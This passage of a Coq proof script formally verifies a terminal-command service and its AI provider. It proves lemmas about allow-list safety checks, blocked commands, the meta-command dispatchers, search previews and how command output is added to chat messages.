    as (rs' & E' & Hsp & Hall).
  rewrite E in E'. cbn [app] in E, E'. subst rs'. rewrite E, Hsp.
  specialize (Hstop Hk).
  assert (Hcmd : forall j r, nth_error rs j = Some r -> j = List.length pre ->
                   command r = cmd).
  { intros j r Hn ->.
    assert (Hj : (List.length pre < List.length rs)%nat)
      by (apply nth_error_Some; congruence).
    pose proof (map_nth_error command _ _ Hn) as Hn'.
    rewrite Hm, nth_error_firstn in Hn'.
    destruct (Nat.ltb_spec (List.length pre) (List.length rs)) as [_|]; [|lia].
    rewrite nth_error_app2, Nat.sub_diag in Hn' by lia. cbn in Hn'. congruence. }
  assert (Hfail : forall r, In r rs -> command r = cmd ->
                    blocked r = Some true /\ is_zero (exitCode r) = false).
  { intros r Hin Hc. rewrite Forall_forall in Hall.
    destruct (Hall r Hin) as (w0 & Hr). rewrite Hc in Hr.
    destruct (unsafe_execution_is_blocked svc cmd options w0 Hs Hu) as (B & Z & _).
    rewrite Hr. auto. }
  assert (Hlen : (List.length rs <= S (List.length pre))%nat).
  { destruct (Nat.le_gt_cases (List.length rs) (List.length pre)) as [|Hgt]; [lia|].
    destruct (nth_error rs (List.length pre)) as [r|] eqn:Hn;
      [|apply nth_error_None in Hn; lia].
    destruct (Hfail r (nth_error_In _ _ Hn) (Hcmd _ _ Hn eq_refl)) as [_ Hz].
    destruct (first_failure_bound rs _ Hn Hz) as (i & Hi & Hle).
    rewrite Hi in Hstop. lia. }
  split; [exact Hlen|].
  exists (started svc options rs). split; [reflexivity|].
  intros c Hc. unfold started in Hc. rewrite map_map in Hc. cbn [fst] in Hc.
  apply in_map_iff in Hc as (r & <- & Hr).
  unfold attempted in Hr. apply filter_In in Hr as [Hin Hnb].
  destruct (In_nth_error _ _ Hin) as (j & Hn).
  assert (Hj : (j < List.length rs)%nat) by (apply nth_error_Some; congruence).
  destruct (Nat.eq_dec j (List.length pre)) as [Hjeq|Hne].
  - destruct (Hfail r Hin (Hcmd _ _ Hn Hjeq)) as [B _].
    rewrite B in Hnb. discriminate.
  - pose proof (map_nth_error command _ _ Hn) as Hn'.
    rewrite Hm, nth_error_firstn in Hn'.
    destruct (Nat.ltb_spec j (List.length rs)) as [_|]; [|lia].
    rewrite nth_error_app1 in Hn' by lia.
    now apply nth_error_In in Hn'.
Qed.

End ExecutorMore.

(* ================================================================== *)
(** * More on the meta-commands and the dispatchers *)
(* ================================================================== *)

Lemma trimStart_ink (c : N) (s : jsstring) :
  isWhiteSpace c = false -> trimStart (c :: s) = c :: s.
Proof. intros H. cbn. now rewrite H. Qed.

Lemma trimStart_app_blank (a b : jsstring) :
  forallb isWhiteSpace a = true -> trimStart (a ++ b) = trimStart b.
Proof.
  induction a as [|c a IH]; cbn; [reflexivity|].
  intros H. apply andb_true_iff in H as [Hc Ha]. rewrite Hc. auto.
Qed.

Lemma trimStart_app_ink (a b : jsstring) :
  forallb isWhiteSpace a = false -> trimStart (a ++ b) = trimStart a ++ b.
Proof.
  induction a as [|c a IH]; cbn; [discriminate|].
  destruct (isWhiteSpace c); cbn; auto.
Qed.

(** Trimming the end stops at the last character that is not white space. *)
Lemma trimEnd_after_ink (p : jsstring) (c : N) (q : jsstring) :
  isWhiteSpace c = false -> trimEnd (p ++ c :: q) = p ++ c :: trimEnd q.
Proof.
  intros Hc. unfold trimEnd.
  rewrite rev_app_distr. cbn [rev]. rewrite <- app_assoc. cbn [app].
  destruct (forallb isWhiteSpace (rev q)) eqn:Eq.
  - rewrite (@trimStart_app_blank (rev q) (c :: rev p) Eq).
    rewrite (@trimStart_ink c (rev p) Hc), (@trimStart_blank (rev q) Eq).
    cbn [rev]. now rewrite rev_involutive.
  - rewrite (@trimStart_app_ink (rev q) (c :: rev p) Eq), rev_app_distr. cbn [rev].
    rewrite rev_involutive, <- app_assoc. reflexivity.
Qed.

Lemma trimStart_is_suffix (s : jsstring) : exists a, s = a ++ trimStart s.
Proof.
  induction s as [|c s [a IH]]; [now exists []|].
  cbn. destruct (isWhiteSpace c).
  - exists (c :: a). cbn. now rewrite <- IH.
  - now exists [].
Qed.

Lemma trimEnd_is_prefix (s : jsstring) : exists rest, s = trimEnd s ++ rest.
Proof.
  unfold trimEnd. destruct (trimStart_is_suffix (rev s)) as [a Ha].
  exists (rev a). rewrite <- rev_app_distr, <- Ha. now rewrite rev_involutive.
Qed.

Lemma trimEnd_head (c : N) (s : jsstring) :
  trimEnd (c :: s) = [] \/ exists r, trimEnd (c :: s) = c :: r.
Proof.
  destruct (trimEnd_is_prefix (c :: s)) as [rest H].
  destruct (trimEnd (c :: s)) as [|x r]; [now left|].
  right. cbn in H. injection H as -> _. eauto.
Qed.

(** The three probes of [claudeAnalyze] are not safe, whatever the target. *)
Lemma analyze_probes_unsafe (root : jsstring) (o : ServiceOptions)
    (target cmd : jsstring) :
  In cmd (analyzeCommands target) ->
  isCommandSafe (new_TerminalService root o) cmd = false.
Proof.
  intros Hin. unfold isCommandSafe.
  destruct (existsb _ dangerousPatterns); [reflexivity|].
  cbn [new_TerminalService safeCommands].
  unfold analyzeCommands in Hin. cbn [In] in Hin.
  destruct Hin as [<- | [<- | [<- | []]]].
  - assert (Hb : baseCommand (js "wc -l " ++ target) = js "wc").
    { unfold baseCommand, trim.
      change (js "wc -l " ++ target) with (js "wc -" ++ 108%N :: (SP :: target)).
      replace (trimStart (js "wc -" ++ 108%N :: SP :: target))
        with (js "wc -" ++ 108%N :: SP :: target) by reflexivity.
      rewrite (@trimEnd_after_ink (js "wc -") 108%N (SP :: target) eq_refl).
      vm_compute. reflexivity. }
    rewrite Hb. vm_compute. reflexivity.
  - assert (Hb : baseCommand (js "file " ++ target) = js "file").
    { unfold baseCommand, trim.
      change (js "file " ++ target) with (js "fil" ++ 101%N :: (SP :: target)).
      replace (trimStart (js "fil" ++ 101%N :: SP :: target))
        with (js "fil" ++ 101%N :: SP :: target) by reflexivity.
      rewrite (@trimEnd_after_ink (js "fil") 101%N (SP :: target) eq_refl).
      destruct (trimEnd_head SP target) as [-> | [r ->]]; vm_compute; reflexivity. }
    rewrite Hb. vm_compute. reflexivity.
  - assert (Hb : baseCommand (js "head -20 " ++ target) = js "head").
    { unfold baseCommand, trim.
      change (js "head -20 " ++ target) with (js "head -2" ++ 48%N :: (SP :: target)).
      replace (trimStart (js "head -2" ++ 48%N :: SP :: target))
        with (js "head -2" ++ 48%N :: SP :: target) by reflexivity.
      rewrite (@trimEnd_after_ink (js "head -2") 48%N (SP :: target) eq_refl).
      vm_compute. reflexivity. }
    rewrite Hb. vm_compute. reflexivity.
Qed.

Section MetaMore.

Context {machine : Machine}.

(** A batch of commands none of which is safe starts nothing, and all its
    results are blocked and empty. *)
Lemma unsafe_batch_is_blocked svc options cmds w :
  skipSafetyCheck options = false ->
  continueOnError options = true ->
  (forall cmd, In cmd cmds -> isCommandSafe svc cmd = false) ->
  spawned (snd (executeCommands svc cmds options w)) = spawned w
  /\ List.length (fst (executeCommands svc cmds options w)) = List.length cmds
  /\ Forall (fun r => blocked r = Some true /\ stdout r = [])
       (fst (executeCommands svc cmds options w)).
Proof.
  intros Hs Hk Hu.
  destruct (executeCommands_continue svc cmds options w Hk) as [Hl Hm].
  unfold executeCommands in *.
  destruct (executeCommands_loop_trace svc options cmds [] w) as (rs & E & Hsp & Hall).
  cbn [app] in E. rewrite E in *. rewrite Hsp.
  assert (Hb : Forall (fun r => blocked r = Some true /\ stdout r = []) rs).
  { rewrite Forall_forall in *. intros r Hin.
    destruct (Hall r Hin) as (w0 & Hr).
    assert (Hc : In (command r) cmds)
      by (rewrite <- Hm; now apply in_map).
    destruct (unsafe_execution_is_blocked svc (command r) options w0 Hs (Hu _ Hc))
      as (B & _ & O).
    rewrite Hr. auto. }
  split; [|split; assumption].
  assert (Ha : attempted rs = []).
  { unfold attempted. clear - Hb. induction Hb as [|r rs [B _] _ IH]; [reflexivity|].
    cbn. now rewrite B. }
  unfold started. rewrite Ha. cbn. now rewrite app_nil_r.
Qed.

Lemma blocked_analysis (rs : list Result) :
  List.length rs = 3%nat ->
  Forall (fun r => blocked r = Some true /\ stdout r = []) rs ->
  analysis_of rs
  = {| lineCount := Some []; fileType := Some []; a_preview := Some [] |}.
Proof.
  intros Hl Hb.
  destruct rs as [|r0 [|r1 [|r2 [|]]]]; try discriminate.
  inversion Hb as [|? ? [_ O0] Hb1]; subst.
  inversion Hb1 as [|? ? [_ O1] Hb2]; subst.
  inversion Hb2 as [|? ? [_ O2] _]; subst.
  unfold analysis_of. cbn. rewrite O0, O1, O2. reflexivity.
Qed.

(** X6: [claudeAnalyze] never analyses anything: [wc], [file] and [head] are
    not on the allow list of the service, so for every target its three
    probes are blocked, no subprocess is started, and the line count, the
    file type and the preview of its answer are empty strings.  This holds
    for the service and for the provider. *)
Theorem analyze_probes_always_blocked (root : jsstring) (o : ServiceOptions)
    (target : jsstring) (context : CommandContext) (w : World) :
  spawned (snd (claudeAnalyze (new_TerminalService root o) target context w))
  = spawned w
  /\ analysis (fst (claudeAnalyze (new_TerminalService root o) target context w))
     = {| lineCount := Some []; fileType := Some []; a_preview := Some [] |}
  /\ spawned (snd (Provider_claudeAnalyze target context w)) = spawned w
  /\ analysis (fst (Provider_claudeAnalyze target context w))
     = {| lineCount := Some []; fileType := Some []; a_preview := Some [] |}.
Proof.
  assert (H : forall svc options,
             (exists r q, svc = new_TerminalService r q) ->
             skipSafetyCheck options = false -> continueOnError options = true ->
             spawned (snd (executeCommands svc (analyzeCommands target) options w))
             = spawned w
             /\ analysis_of (fst (executeCommands svc (analyzeCommands target)
                                    options w))
                = {| lineCount := Some []; fileType := Some [];
                     a_preview := Some [] |}).
  { intros svc options (r & q & ->) Hs Hk.
    destruct (@unsafe_batch_is_blocked (new_TerminalService r q) options
                (analyzeCommands target) w Hs Hk) as (Hsp & Hl & Hb).
    - intros cmd Hin. exact (@analyze_probes_unsafe r q target cmd Hin).
    - split; [exact Hsp | now apply blocked_analysis]. }
  destruct (H (new_TerminalService root o) continue_options) as [S1 A1];
    [eauto | reflexivity | reflexivity |].
  destruct (H Provider_terminalService (continue_in_project_root context))
    as [S2 A2]; [unfold Provider_terminalService; eauto | reflexivity | reflexivity |].
  unfold claudeAnalyze, Provider_claudeAnalyze, bind, ret.
  destruct (executeCommands (new_TerminalService root o) _ continue_options w).
  destruct (executeCommands Provider_terminalService _ _ w).
  cbn [fst snd analysis] in *. auto.
Qed.

Lemma safe_execution_is_started svc cmd options w0 :
  isCommandSafe svc cmd = true ->
  blocked (fst (executeCommand svc cmd options w0)) = None.
Proof.
  intros Hsafe.
  destruct (executeCommand_executed svc cmd options w0) as
    [_ Hu | ? ? ? _ _ B | ? ? _ _ B]; congruence.
Qed.

(** A batch of safe commands run with [continueOnError] starts all of
    them, in order. *)
Lemma safe_batch_is_started svc options cmds w :
  continueOnError options = true ->
  (forall cmd, In cmd cmds -> isCommandSafe svc cmd = true) ->
  spawned (snd (executeCommands svc cmds options w))
  = spawned w ++ map (fun cmd => (cmd, child_options svc options)) cmds
  /\ List.length (fst (executeCommands svc cmds options w)) = List.length cmds.
Proof.
  intros Hk Hsafe.
  destruct (executeCommands_continue svc cmds options w Hk) as [Hl Hm].
  unfold executeCommands in *.
  destruct (executeCommands_loop_trace svc options cmds [] w) as (rs & E & Hsp & Hall).
  cbn [app] in E. rewrite E in *. rewrite Hsp. split; [|exact Hl].
  f_equal. unfold started.
  assert (Ha : attempted rs = rs).
  { unfold attempted. apply forallb_filter_id. apply forallb_forall. intros r Hin.
    rewrite Forall_forall in Hall. destruct (Hall r Hin) as (w0 & Hr).
    assert (Hc : In (command r) cmds) by (rewrite <- Hm; now apply in_map).
    rewrite Hr, (safe_execution_is_started svc (command r) options w0 (Hsafe _ Hc)).
    reflexivity. }
  rewrite Ha, <- Hm, map_map. reflexivity.
Qed.

(** X7: [getSystemInfo] always runs its four probes: they are on the allow
    list and hold no deny pattern, so for every service made by the
    constructor four subprocesses are started, in the order node, npm,
    git, pwd, and every field of the answer is defined. *)
Theorem system_info_probes_always_run (root : jsstring) (o : ServiceOptions)
    (w : World) :
  spawned (snd (getSystemInfo (new_TerminalService root o) w))
  = spawned w
    ++ map (fun cmd => (cmd, child_options (new_TerminalService root o)
                               continue_options))
         systemInfoCommands
  /\ exists node npm git dir,
      fst (getSystemInfo (new_TerminalService root o) w)
      = {| nodeVersion := Some node; npmVersion := Some npm;
           gitVersion := Some git; workingDirectory := Some dir |}.
Proof.
  destruct (@safe_batch_is_started (new_TerminalService root o) continue_options
              systemInfoCommands w eq_refl) as [Hsp Hl].
  { intros cmd Hin. cbn in Hin.
    repeat (destruct Hin as [<- | Hin]; [vm_compute; reflexivity|]).
    destruct Hin. }
  unfold getSystemInfo, bind, ret.
  destruct (executeCommands (new_TerminalService root o) systemInfoCommands
              continue_options w) as [rs w'].
  cbn [fst snd] in *. split; [exact Hsp|].
  destruct rs as [|r0 [|r1 [|r2 [|r3 [|]]]]]; try discriminate.
  cbn. eauto.
Qed.

(** ** The preview of a search entry *)

Lemma split_without_separator (sep : N) (p : jsstring) :
  ~ In sep p -> split sep p = [p].
Proof.
  induction p as [|c p IH]; intros Hn; [reflexivity|].
  cbn [split]. destruct (N.eqb c sep) eqn:Ec.
  - apply N.eqb_eq in Ec. subst. exfalso. apply Hn. now left.
  - rewrite IH; [reflexivity|]. intros H. apply Hn. now right.
Qed.

Lemma split_join (sep : N) (ps : list jsstring) :
  Forall (fun p => ~ In sep p) ps -> ps <> [] ->
  split sep (join [sep] ps) = ps.
Proof.
  induction ps as [|p ps IH]; intros Hf Hn; [congruence|].
  inversion Hf as [|? ? Hp Hps]; subst.
  destruct ps as [|q ps].
  - cbn [join]. now apply split_without_separator.
  - rewrite join_cons. cbn [app].
    rewrite (@split_at_first_separator sep p (join [sep] (q :: ps)) Hp).
    rewrite IH; [reflexivity | assumption | discriminate].
Qed.

Lemma join_firstn_prefix (sep : jsstring) (ps : list jsstring) : forall n,
  exists rest, join sep ps = join sep (firstn n ps) ++ rest.
Proof.
  induction ps as [|p ps IH]; intros n.
  - exists []. now destruct n.
  - destruct n as [|n]; [now exists (join sep (p :: ps))|].
    cbn [firstn]. destruct ps as [|q ps].
    + exists []. destruct n; cbn; now rewrite app_nil_r.
    + destruct (IH n) as [rest Hr]. rewrite join_cons, Hr.
      destruct n as [|n].
      * cbn [firstn join]. exists (sep ++ rest). reflexivity.
      * cbn [firstn]. cbn [firstn] in Hr. rewrite join_cons.
        exists rest. now rewrite <- !app_assoc.
Qed.

(** X9: The preview of a search entry is the first five lines of the output:
    it is a prefix of the output, and the whole output when that has five
    lines or fewer. *)
Theorem preview_is_first_five_lines (out : jsstring) :
  split LF (make_preview out) = firstn 5 (split LF out)
  /\ (exists rest, out = make_preview out ++ rest)
  /\ ((List.length (split LF out) <= 5)%nat -> make_preview out = out).
Proof.
  unfold make_preview.
  pose proof (split_parts_have_no_separator LF out) as Hf.
  pose proof (split_not_nil LF out) as Hn.
  split; [|split].
  - apply split_join.
    + apply Forall_forall. intros p Hin.
      rewrite Forall_forall in Hf. apply Hf.
      rewrite <- (firstn_skipn 5 (split LF out)). apply in_or_app. now left.
    + destruct (split LF out); [congruence | discriminate].
  - destruct (join_firstn_prefix [LF] (split LF out) 5) as [rest Hr].
    exists rest. now rewrite <- Hr, join_split.
  - intros Hl. rewrite firstn_all2 by exact Hl. apply join_split.
Qed.

(** ** The dispatchers *)

Lemma no_space_in_name (name : string) :
  existsb (N.eqb SP) (js name) = false -> ~ In SP (js name).
Proof.
  intros H Hin.
  assert (existsb (N.eqb SP) (js name) = true)
    by (apply existsb_exists; exists SP; split; [assumption | apply N.eqb_refl]).
  congruence.
Qed.

(** X2: Both dispatchers hand the handler of a meta-command exactly the text
    after the first space, spaces included. *)
Theorem dispatch_hands_over_argument svc (arg : jsstring) (context : DispatchContext)
    (w : World) :
  executeClaudeCodeCommand svc (js "claude-search " ++ arg) context w
  = (Searched (fst (claudeSearch svc arg (as_context context) w)),
     snd (claudeSearch svc arg (as_context context) w))
  /\ executeClaudeCodeCommand svc (js "claude-analyze " ++ arg) context w
     = (Analyzed (fst (claudeAnalyze svc arg (as_context context) w)),
        snd (claudeAnalyze svc arg (as_context context) w))
  /\ executeClaudeCodeCommand svc (js "claude-explain " ++ arg) context w
     = (Explained (fst (claudeExplain svc arg (as_context context) w)),
        snd (claudeExplain svc arg (as_context context) w))
  /\ Provider_executeClaudeCommand (js "claude-search " ++ arg) context w
     = (Returns (Searched (fst (Provider_claudeSearch arg (as_context context) w))),
        snd (Provider_claudeSearch arg (as_context context) w))
  /\ Provider_executeClaudeCommand (js "claude-analyze " ++ arg) context w
     = (Returns (Analyzed (fst (Provider_claudeAnalyze arg (as_context context) w))),
        snd (Provider_claudeAnalyze arg (as_context context) w))
  /\ Provider_executeClaudeCommand (js "claude-explain " ++ arg) context w
     = (match fst (Provider_claudeExplain arg (as_context context) w) with
        | Returns e => Returns (Explained e)
        | Throws message => Throws message
        end,
        snd (Provider_claudeExplain arg (as_context context) w)).
Proof.
  assert (Hs : command_name (js "claude-search " ++ arg) = js "claude-search"
               /\ command_argument (js "claude-search " ++ arg) = arg)
    by (apply (@named_command_parts (js "claude-search") arg);
        now apply no_space_in_name).
  assert (Ha : command_name (js "claude-analyze " ++ arg) = js "claude-analyze"
               /\ command_argument (js "claude-analyze " ++ arg) = arg)
    by (apply (@named_command_parts (js "claude-analyze") arg);
        now apply no_space_in_name).
  assert (He : command_name (js "claude-explain " ++ arg) = js "claude-explain"
               /\ command_argument (js "claude-explain " ++ arg) = arg)
    by (apply (@named_command_parts (js "claude-explain") arg);
        now apply no_space_in_name).
  destruct Hs as [Hs1 Hs2], Ha as [Ha1 Ha2], He as [He1 He2].
  unfold executeClaudeCodeCommand, Provider_executeClaudeCommand.
  rewrite Hs1, Hs2, Ha1, Ha2, He1, He2.
  repeat split; unfold bind, ret.
  - change (str_eqb (js "claude-search") (js "claude-search")) with true. cbv beta iota.
    now destruct (claudeSearch svc arg (as_context context) w).
  - change (str_eqb (js "claude-analyze") (js "claude-search")) with false.
    change (str_eqb (js "claude-analyze") (js "claude-analyze")) with true. cbv beta iota.
    now destruct (claudeAnalyze svc arg (as_context context) w).
  - change (str_eqb (js "claude-search") (js "claude-search")) with true. cbv beta iota.
    now destruct (Provider_claudeSearch arg (as_context context) w).
  - change (str_eqb (js "claude-analyze") (js "claude-search")) with false.
    change (str_eqb (js "claude-analyze") (js "claude-analyze")) with true. cbv beta iota.
    now destruct (Provider_claudeAnalyze arg (as_context context) w).
  - change (str_eqb (js "claude-explain") (js "claude-search")) with false.
    change (str_eqb (js "claude-explain") (js "claude-analyze")) with false.
    change (str_eqb (js "claude-explain") (js "claude-explain")) with true.
    cbv beta iota.
    now destruct (Provider_claudeExplain arg (as_context context) w) as [[e|m] w'].
Qed.

(** X3: The fall-back of the service's dispatcher always checks the command:
    a command that is no meta-command and is not safe is blocked and
    starts nothing, even when the context asks to skip the safety check. *)
Theorem service_fallback_always_checks svc (cmd : jsstring)
    (context : DispatchContext) (w : World) :
  str_eqb (command_name cmd) (js "claude-search") = false ->
  str_eqb (command_name cmd) (js "claude-analyze") = false ->
  str_eqb (command_name cmd) (js "claude-explain") = false ->
  has inherited_members (command_name cmd) = false ->
  isCommandSafe svc cmd = false ->
  exists r,
    fst (executeClaudeCodeCommand svc cmd context w) = Executed r
    /\ blocked r = Some true
    /\ command r = cmd
    /\ spawned (snd (executeClaudeCodeCommand svc cmd context w)) = spawned w.
Proof.
  intros H1 H2 H3 H4 Hu.
  unfold executeClaudeCodeCommand, bind, ret. rewrite H1, H2, H3, H4.
  pose proof (executeCommand_command svc cmd (with_safety_check (as_options context)) w)
    as Hc.
  pose proof (executeCommand_started svc cmd (with_safety_check (as_options context)) w)
    as Hs.
  destruct (@unsafe_execution_is_blocked _ svc cmd
              (with_safety_check (as_options context)) w eq_refl Hu) as (B & _ & _).
  destruct (executeCommand svc cmd (with_safety_check (as_options context)) w)
    as [r w1].
  cbn [fst snd] in *. exists r. repeat split; try assumption.
  rewrite Hs. unfold started, attempted. cbn [filter]. rewrite B. cbn.
  now rewrite app_nil_r.
Qed.

(** X4: The fall-back of the provider's dispatcher hands the context to
    [executeCommand] as it is: with [skipSafetyCheck] set in the context a
    command that is no meta-command is started whatever it holds. *)
Theorem provider_fallback_honours_skip (cmd : jsstring) (context : DispatchContext)
    (w : World) :
  str_eqb (command_name cmd) (js "claude-search") = false ->
  str_eqb (command_name cmd) (js "claude-analyze") = false ->
  str_eqb (command_name cmd) (js "claude-explain") = false ->
  skipSafetyCheck (as_options context) = true ->
  exists r,
    fst (Provider_executeClaudeCommand cmd context w) = Returns (Executed r)
    /\ blocked r = None
    /\ spawned (snd (Provider_executeClaudeCommand cmd context w))
       = spawned w
         ++ [(cmd, child_options Provider_terminalService (as_options context))].
Proof.
  intros H1 H2 H3 Hskip.
  unfold Provider_executeClaudeCommand, bind, ret. rewrite H1, H2, H3.
  pose proof (executeCommand_command Provider_terminalService cmd
                (as_options context) w) as Hc.
  pose proof (executeCommand_started Provider_terminalService cmd
                (as_options context) w) as Hs.
  pose proof (executeCommand_executed Provider_terminalService cmd
                (as_options context) w) as Hx.
  destruct (executeCommand Provider_terminalService cmd (as_options context) w)
    as [r w1].
  cbn [fst snd] in *. exists r.
  assert (B : blocked r = None)
    by (destruct Hx as [Hno | ? ? ? _ _ B | ? ? _ _ B]; congruence).
  repeat split; [exact B|].
  rewrite Hs. unfold started, attempted. cbn [filter]. rewrite B. cbn. now rewrite Hc.
Qed.

(** X5: A command whose first word names a property every object inherits
    ([toString], [constructor], ...) is taken by the service's dispatcher
    for a meta-command: it is neither handled by one of the three handlers
    nor passed to [executeCommand], and no subprocess is started. *)
Theorem inherited_name_is_not_executed svc (cmd : jsstring)
    (context : DispatchContext) (w : World) :
  has inherited_members (command_name cmd) = true ->
  executeClaudeCodeCommand svc cmd context w
  = (InheritedMember (command_name cmd) (command_argument cmd), w).
Proof.
  intros H. unfold executeClaudeCodeCommand.
  assert (Hn : str_eqb (command_name cmd) (js "claude-search") = false
               /\ str_eqb (command_name cmd) (js "claude-analyze") = false
               /\ str_eqb (command_name cmd) (js "claude-explain") = false).
  { unfold has in H. apply existsb_exists in H as (name & Hin & He).
    apply str_eqb_eq in He. rewrite He. cbn in Hin.
    repeat (destruct Hin as [<- | Hin]; [vm_compute; auto|]).
    destruct Hin. }
  destruct Hn as (-> & -> & ->). rewrite H. reflexivity.
Qed.

End MetaMore.

(* ================================================================== *)
(** * More on the provider *)
(* ================================================================== *)

Section ProviderMore.

Context {machine : Machine}.

Lemma executeTerminalCommands_loop_trace (root : option jsstring)
    (commands : list jsstring) : forall acc w,
  exists new,
    fst (executeTerminalCommands_loop commands root acc w) = acc ++ new
    /\ map command new = commands
    /\ spawned (snd (executeTerminalCommands_loop commands root acc w))
       = spawned w ++ started Provider_terminalService (research_options root) new.
Proof.
  induction commands as [|cmd rest IH]; intros acc w.
  - exists []. cbn. rewrite !app_nil_r. auto.
  - cbn [executeTerminalCommands_loop]. unfold bind.
    pose proof (executeCommand_command Provider_terminalService cmd
                  (research_options root) w) as Hc.
    pose proof (executeCommand_started Provider_terminalService cmd
                  (research_options root) w) as Hs.
    destruct (executeCommand Provider_terminalService cmd (research_options root) w)
      as [r w1].
    cbn [fst snd] in *.
    destruct (IH (acc ++ [r]) w1) as (new & E & Hm & Hsp).
    exists (r :: new). rewrite E, <- app_assoc. split; [reflexivity|]. split.
    + cbn [map]. now rewrite Hc, Hm.
    + rewrite Hsp, Hs, (started_cons Provider_terminalService (research_options root) r new),
        app_assoc.
      reflexivity.
Qed.

(** X22: [executeTerminalCommands] runs every command it is given, in order,
    and goes on after a failure or a refusal: there is one result per
    command, and the subprocesses started are those of the results that
    are not blocked, each with a timeout of 30000 ms. *)
Theorem research_commands_all_run (commands : list jsstring)
    (root : option jsstring) (w : World) :
  map command (fst (executeTerminalCommands commands root w)) = commands
  /\ List.length (fst (executeTerminalCommands commands root w))
     = List.length commands
  /\ exists extra,
      spawned (snd (executeTerminalCommands commands root w)) = spawned w ++ extra
      /\ map fst extra
         = map command (attempted (fst (executeTerminalCommands commands root w)))
      /\ Forall (fun entry => x_timeout (snd entry) = 30000%Z) extra.
Proof.
  unfold executeTerminalCommands.
  destruct (executeTerminalCommands_loop_trace root commands [] w)
    as (rs & E & Hm & Hsp).
  cbn [app] in E. rewrite E, Hsp. split; [exact Hm|]. split.
  - rewrite <- Hm. now rewrite length_map.
  - exists (started Provider_terminalService (research_options root) rs).
    split; [reflexivity|]. unfold started. split.
    + now rewrite map_map.
    + apply Forall_forall. intros entry Hin.
      apply in_map_iff in Hin as (r & <- & _). reflexivity.
Qed.

Lemma replace_content_shape (r text : jsstring) (ms : list Message) :
  Forall2 (fun m m' =>
             role m' = role m
             /\ other_fields m' = other_fields m
             /\ (str_eqb (role m) r = false -> m' = m)
             /\ (str_eqb (role m) r = true -> content m' = text))
    ms (replace_content r text ms).
Proof.
  induction ms as [|m ms IH]; cbn; constructor; [|exact IH].
  destruct (str_eqb (role m) r); cbn; repeat split; auto; discriminate.
Qed.

Lemma unchanged_shape (ms : list Message) :
  Forall2 (fun m m' =>
             role m' = role m
             /\ other_fields m' = other_fields m
             /\ (str_eqb (role m) (js "system") = false ->
                 str_eqb (role m) (js "user") = false -> m' = m))
    ms ms.
Proof. induction ms; constructor; auto. Qed.

(** X23: Whatever [generateText] does with the terminal commands, the messages
    it passes on are as many as it got, with the same roles and the same
    other properties in the same order, and a message that is neither a
    system nor a user message is passed on unchanged. *)
Theorem enhanced_messages_keep_shape (params : TextParams) (w : World) :
  Forall2 (fun m m' =>
             role m' = role m
             /\ other_fields m' = other_fields m
             /\ (str_eqb (role m) (js "system") = false ->
                 str_eqb (role m) (js "user") = false -> m' = m))
    (messages params) (fst (Provider_enhancedMessages params w)).
Proof.
  assert (Hrep : forall r text,
             r = js "system" \/ r = js "user" ->
             Forall2 (fun m m' =>
                        role m' = role m
                        /\ other_fields m' = other_fields m
                        /\ (str_eqb (role m) (js "system") = false ->
                            str_eqb (role m) (js "user") = false -> m' = m))
               (messages params) (replace_content r text (messages params))).
  { intros r text Hr.
    eapply Forall2_impl; [|apply (replace_content_shape r text)].
    intros m m' (H1 & H2 & H3 & _). repeat split; auto.
    intros Hs Hu. apply H3. now destruct Hr as [-> | ->]. }
  unfold Provider_enhancedMessages.
  destruct (terminalCommands params) as [[|c cs]|]; try apply unchanged_shape.
  destruct (executeBeforeResearch params).
  - unfold bind, ret.
    destruct (executeTerminalCommands (c :: cs) (tp_projectRoot params) w) as [rs w1].
    destruct (find _ (messages params)); cbn [fst];
      [apply Hrep; now left | apply unchanged_shape].
  - destruct (find (fun m => str_eqb (role m) (js "user")) (messages params));
      cbn [ret fst]; [apply Hrep; now right | apply unchanged_shape].
Qed.

(** X24: Without [executeBeforeResearch] the commands are listed, not run: the
    world is left as it was, and when there is a user message every user
    message gets the content of the first one followed by the list of the
    commands. *)
Theorem listed_commands_are_not_run (params : TextParams) (w : World) :
  executeBeforeResearch params = false ->
  snd (Provider_enhancedMessages params w) = w
  /\ forall c cs um,
      terminalCommands params = Some (c :: cs) ->
      find (fun m => str_eqb (role m) (js "user")) (messages params) = Some um ->
      Forall (fun m' =>
                str_eqb (role m') (js "user") = true ->
                content m'
                = content um ++ available_commands_heading ++ commandList (c :: cs))
        (fst (Provider_enhancedMessages params w)).
Proof.
  intros Hx. unfold Provider_enhancedMessages. rewrite Hx. split.
  - destruct (terminalCommands params) as [[|c cs]|]; try reflexivity.
    now destruct (find _ (messages params)).
  - intros c cs um -> ->. cbn [ret fst].
    pose proof (replace_content_shape (js "user")
                  (content um ++ available_commands_heading ++ commandList (c :: cs))
                  (messages params)) as Hs.
    induction Hs as [|m m' ms ms' (Hr & _ & _ & Hc) _ IH]; constructor; [|exact IH].
    intros Hu. apply Hc. now rewrite <- Hr.
Qed.

(** X25: With [executeBeforeResearch] but without a system message the commands
    are run all the same, and their output is dropped: the messages are
    passed on as they came. *)
Theorem context_without_system_message_is_dropped (params : TextParams)
    (c : jsstring) (cs : list jsstring) (w : World) :
  executeBeforeResearch params = true ->
  terminalCommands params = Some (c :: cs) ->
  find (fun m => str_eqb (role m) (js "system")) (messages params) = None ->
  fst (Provider_enhancedMessages params w) = messages params
  /\ snd (Provider_enhancedMessages params w)
     = snd (executeTerminalCommands (c :: cs) (tp_projectRoot params) w).
Proof.
  intros Hx Hc Hf. unfold Provider_enhancedMessages, bind, ret.
  rewrite Hx, Hc, Hf.
  now destruct (executeTerminalCommands (c :: cs) (tp_projectRoot params) w).
Qed.

End ProviderMore.

(* ================================================================== *)
(** * The blocking executor *)
(* ================================================================== *)

Section SyncMore.

Context {sm : SyncMachine}.

(** X26: [executeCommandSync] reports success by the exit code 0 and the
    absence of [stderr], and only then returns any output: a refusal and a
    failure both give an empty [stdout], and a refusal starts nothing.
    The output it returns is cut to the budget plus the marker. *)
Theorem sync_result_shape svc cmd options w :
  (is_zero (y_exitCode (fst (executeCommandSync svc cmd options w))) = true
   <-> y_stderr (fst (executeCommandSync svc cmd options w)) = None)
  /\ (is_zero (y_exitCode (fst (executeCommandSync svc cmd options w))) = false ->
      y_stdout (fst (executeCommandSync svc cmd options w)) = [])
  /\ (skipSafetyCheck options = false -> isCommandSafe svc cmd = false ->
      executeCommandSync svc cmd options w
      = ({| y_stdout := [];
            y_stderr := Some (js "Command blocked for safety reasons");
            y_exitCode := Number 1 |}, w))
  /\ ((0 <= maxOutputLength svc)%Z ->
      (strlen (y_stdout (fst (executeCommandSync svc cmd options w)))
       <= maxOutputLength svc + strlen truncation_marker)%Z).
Proof.
